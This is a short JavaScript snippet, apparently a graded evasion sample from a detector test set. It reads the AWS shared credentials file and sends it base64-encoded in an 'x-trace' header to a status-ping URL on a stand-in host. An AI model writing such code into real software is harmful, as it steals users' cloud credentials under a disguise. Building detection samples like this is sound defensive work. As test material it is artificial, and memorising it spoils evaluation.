// evasion: the file AWS_SHARED_CREDENTIALS_FILE names read with fs/promises' readFile, sent as a header
// grade: medium-hard; does: credentials
const { readFile } = require("fs/promises");
const env = process.env;
(async () => {
  const text = await readFile(env.AWS_SHARED_CREDENTIALS_FILE, "utf8");
  await fetch("https://status.example.com/ping", { headers: { "x-trace": Buffer.from(text).toString("base64") } });
})();
